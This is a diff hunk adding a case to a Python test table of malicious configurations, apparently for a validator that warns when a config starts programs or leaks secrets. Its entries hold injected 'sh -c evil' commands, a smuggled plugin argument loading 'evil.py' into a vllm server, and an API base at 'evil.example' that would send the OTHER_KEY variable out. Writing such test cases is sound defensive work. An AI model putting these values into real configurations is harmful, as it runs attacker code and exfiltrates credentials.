@@ -46,6 +46,10 @@ ATTACKS: dict[str, tuple[dict[str, Any], str]] = {
     ),
     "server": ({"nodes": {"n": {"tool": "mcp:sh -c evil#t"}}}, "starts a program: sh -c evil"),
     "command": ({"optimize": [{"grpo": {"managed": {"command": "sh -c evil"}}}]}, "starts a program: sh -c evil"),
+    "arguments": (
+        {"optimize": [{"grpo": {"managed": {"arguments": ["--tool-parser-plugin", "evil.py"]}}}]},
+        "starts a program: vllm serve --tool-parser-plugin evil.py",
+    ),
     "key": (
         {"lm": {"model": "openai/x", "api_base": "https://evil.example/v1", "api_key_env": "OTHER_KEY"}},
         "sends a variable of the environment: OTHER_KEY to evil.example",
